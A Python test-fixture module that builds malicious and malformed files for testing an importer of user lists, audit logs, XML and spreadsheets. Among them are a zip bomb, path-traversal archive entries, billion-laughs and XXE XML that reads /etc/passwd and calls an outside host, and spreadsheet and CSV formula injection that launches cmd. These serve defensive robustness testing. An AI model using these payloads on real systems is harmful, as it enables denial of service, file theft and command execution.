"""Files made to harm, or spoiled beyond use: each by a name, as bytes."""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

MEGABYTE = 1 << 20
USERS = (
    "Display name,User principal name,Object Id,When created,Soft deletion time stamp,Block credential,Licenses,"
    "Proxy addresses"
)
ID = "0a1b2c3d-0000-4000-8000-{:012x}"
ROW = "Zoé,z{0}@allonnes.fr,{1},2026-02-03 09:10:11Z,,False,Microsoft 365 E3,SMTP:z{0}@allonnes.fr"
PES = '<?xml version="1.0" encoding="ISO-8859-1"?>\n{before}<n:PES_Aller xmlns:n="x">{inside}</n:PES_Aller>'
AUDIT = '{"activityDateTime": "2026-09-01T06:00:00Z", "activityDisplayName": "Add user", "result": "success", "id": "1"'
SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}'
    "</sheetData></worksheet>"
)


def users(count: int = 3) -> bytes:
    rows = (ROW.format(number, ID.format(number)) for number in range(count))
    return "\r\n".join([USERS, *rows, ""]).encode()


def archive(*files: tuple[str, bytes], level: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for name, data in files:
            target.writestr(name, data)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A gigabyte of zeros in a megabyte."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
        target.open("users.csv", "w") as part,
    ):
        for _ in range(1024):
            part.write(bytes(MEGABYTE))
    return out.getvalue()


def zip_that_lies() -> bytes:
    """Three hundred megabytes that the archive says are a hundred bytes."""
    data = archive(("users.csv", bytes(300 * MEGABYTE)))
    true = struct.pack("<I", 300 * MEGABYTE)
    return data.replace(true, struct.pack("<I", 100))


def zip_in_a_zip() -> bytes:
    return archive(("inside.zip", archive(("users.csv", users()))))


def zip_with_a_password() -> bytes:
    data = bytearray(archive(("users.csv", users())))
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + flags] |= 1
    return bytes(data)


def zip_of_ten_thousand_files() -> bytes:
    return archive(*((f"{number}.csv", b"a;b\n") for number in range(10_000)))


def zip_that_climbs() -> bytes:
    return archive(("../../../../etc/passwd", users()), ("C:\\Windows\\users.csv", users()), ("\x1b[2J.csv", b"x"))


def xml_of_a_billion_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return PES.format(before=f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>', inside="&l11;").encode()


def xml_that_reads_other_files() -> bytes:
    before = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://192.0.2.1/x.dtd">%d;]>'
    return PES.format(before=before, inside="<PES_RecetteAller>&f;</PES_RecetteAller>").encode()


def xml_of_expenses() -> bytes:
    return PES.format(before="", inside="<PES_DepenseAller><Bordereau/></PES_DepenseAller>").encode()


def xml_a_million_deep() -> bytes:
    return PES.format(before="", inside="<PES_RecetteAller>" + "<a>" * 1_000_000).encode()


def xml_of_one_tag() -> bytes:
    """Forty megabytes in one attribute."""
    return PES.format(before="", inside=f'<PES_RecetteAller><a V="{"x" * 40 * MEGABYTE}"/></PES_RecetteAller>').encode()


def workbook(sheet: bytes) -> bytes:
    space = "http://schemas.openxmlformats.org"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return archive(
        ("[Content_Types].xml", f'<Types xmlns="{space}/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>'.encode()),
        ("_rels/.rels", f'<Relationships xmlns="{space}/package/2006/relationships"><Relationship Id="r1" Type="{space}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'.encode()),
        ("xl/workbook.xml", f'<workbook xmlns="{space}/spreadsheetml/2006/main" xmlns:r="{space}/officeDocument/2006/relationships"><sheets><sheet name="Feuille" sheetId="1" r:id="r1"/></sheets></workbook>'.encode()),
        ("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{space}/package/2006/relationships"><Relationship Id="r1" Type="{space}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'.encode()),
        ("xl/worksheets/sheet1.xml", sheet),
    )  # fmt: skip


def cells(row: int, texts: list[str]) -> str:
    inside = "".join(
        f'<c r="{chr(65 + place)}{row}" t="inlineStr"><is><t>{text}</t></is></c>' for place, text in enumerate(texts)
    )
    return f'<row r="{row}">{inside}</row>'


def workbook_of_a_million_empty_rows() -> bytes:
    """A table of costs, formulas, and a million rows that hold nothing."""
    head = cells(1, ["exercice", "poste", "montant", "heures_disponibles"])
    formula = '<row r="2"><c r="A2"><f>1000+1026</f><v>2026</v></c><c r="B2" t="str"><f>cmd|\'/C calc\'!A0</f><v>Licences</v></c><c r="C2"><f>WEBSERVICE("http://192.0.2.1")</f><v>12.5</v></c></row>'
    empty = "".join(f'<row r="{row}"/>' for row in range(3, 1_000_003))
    return workbook(SHEET.format(head + formula + empty).encode())


def workbook_with_one_cell_far_away() -> bytes:
    return workbook(
        SHEET.format(cells(1, ["exercice", "poste"]) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').encode()
    )


def workbook_within_the_limits() -> bytes:
    """A million cells, each with something."""
    rows = (
        f'<row r="{row}">'
        + "".join(f'<c r="{chr(65 + place)}{row}"><v>{row}</v></c>' for place in range(20))
        + "</row>"
        for row in range(2, 50_000)
    )
    return workbook(
        SHEET.format(cells(1, ["exercice", "poste", "montant", "heures_disponibles"]) + "".join(rows)).encode()
    )


def workbook_bomb() -> bytes:
    return workbook(b"<worksheet>" + b" " * 300 * MEGABYTE)


def line_of_200_megabytes() -> bytes:
    return f"{USERS}\r\n".encode() + b"x" * 200 * MEGABYTE


def cell_of_100_megabytes() -> bytes:
    return f"{USERS}\r\nZ,".encode() + b"x" * 100 * MEGABYTE + b",,,,,,\r\n" + users().split(b"\r\n", 1)[1]


def quote_that_never_ends() -> bytes:
    """Fifty megabytes of rows behind a quote that is never closed."""
    row = ROW.format(0, ID.format(0)).encode() + b"\r\n"
    return f'{USERS}\r\n"Zoé,'.encode() + row * (50 * MEGABYTE // len(row))


def nothing_but_quotes() -> bytes:
    return b'"' * 20 * MEGABYTE


def nothing_but_nuls() -> bytes:
    return bytes(20 * MEGABYTE)


def nuls_in_every_row() -> bytes:
    return users(20_000).replace(b"Zo", b"Z\0o")


def five_million_blank_lines() -> bytes:
    return f"{USERS}\r\n".encode() + b"\r\n" * 5_000_000


def a_hundred_thousand_columns() -> bytes:
    header = ",".join(["User principal name", *(f"c{number}" for number in range(100_000))])
    return (header + "\n" + "\n".join("," * 100_000 for _ in range(20)) + "\n").encode()


def rows_all_too_long() -> bytes:
    return f"{USERS}\r\n".encode() + b"a,b,c,d,e,f,g,h,i\r\n" * 100_000


def a_million_irregular_rows() -> bytes:
    return f"{USERS}\r\n".encode() + b"a,b,c,d,e,f,g,h,i\r\n" * 1_000_000


def blank_lines_and_a_quote() -> bytes:
    return f'{USERS}\r\n"'.encode() + b"\r\n" * 3_000_000


def bomb_within_the_limits() -> bytes:
    """An archive as large as one may be, of rows that all say the same."""
    row = ROW.format(0, ID.format(0)).encode() + b"\r\n"
    return archive(
        ("users.csv", f"{USERS}\r\n".encode() + row * (49 * MEGABYTE // len(row))),
        ("x.csv", random.Random(1).randbytes(600_000)),
    )


def utf_16_of_odd_length() -> bytes:
    return users().decode().encode("utf-16")[:-1]


def utf_16_without_a_pair() -> bytes:
    return users().decode().encode("utf-16") + b"\x00\xd8a\x00"


def picture_named_csv() -> bytes:
    size = struct.pack(">IIBBBBB", 4000, 4000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + size + random.Random(1).randbytes(3 * MEGABYTE)


def packed_text() -> bytes:
    return b"\x1f\x8b\x08\x00" + zlib.compress(users(2_000))


def json_a_million_deep() -> bytes:
    return b'[{"activityDateTime": ' + b"[" * 1_000_000


def json_of_one_string() -> bytes:
    return f'[{AUDIT}, "x": "'.encode() + b"y" * 50 * MEGABYTE


def json_of_empty_lists() -> bytes:
    return f'[{AUDIT}, "targetResources": ['.encode() + b"[]," * 1_000_000 + b"[]]}]"


def audit_data_too_deep() -> bytes:
    deep = "{'a':" * 5_000
    rows = [f'{n},2026-09-01,8,Add user.,x,"{deep}"' for n in range(200)]
    return "\n".join(["RecordId,CreationDate,RecordType,Operation,UserId,AuditData", *rows]).replace("'", '""').encode()


def header_of_a_thousand_lines() -> bytes:
    return b"titre\n" * 1_000_000 + users()


def formulas_everywhere() -> bytes:
    row = {
        "commune": "72003",
        "compte": "=cmd|' /C calc'!A0",
        "evenement": "@SUM(1)",
        "date": "+1",
        "identifiant": "-1",
    }
    return ";".join(row).encode() + b"\n" + (";".join(row.values()) + "\n").encode() * 1000


def json_of_a_person() -> bytes:
    return json.dumps(
        {"entered_at": "2026-01-01T00:00:00+00:00", "payload": {"rows": [[[]]] * 1000}, "entry": "mapping"}
    ).encode()


NASTY: dict[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        zip_bomb, zip_that_lies, zip_in_a_zip, zip_with_a_password, zip_of_ten_thousand_files, zip_that_climbs,
        xml_of_a_billion_laughs, xml_that_reads_other_files, xml_of_expenses, xml_a_million_deep, xml_of_one_tag,
        workbook_of_a_million_empty_rows, workbook_with_one_cell_far_away, workbook_within_the_limits, workbook_bomb,
        line_of_200_megabytes, cell_of_100_megabytes, quote_that_never_ends, nothing_but_quotes, nothing_but_nuls,
        nuls_in_every_row, a_million_irregular_rows, blank_lines_and_a_quote, bomb_within_the_limits, five_million_blank_lines, a_hundred_thousand_columns, rows_all_too_long,
        utf_16_of_odd_length, utf_16_without_a_pair, picture_named_csv, packed_text, json_a_million_deep,
        json_of_one_string, json_of_empty_lists, audit_data_too_deep, header_of_a_thousand_lines, formulas_everywhere,
        json_of_a_person,
    )
}  # fmt: skip
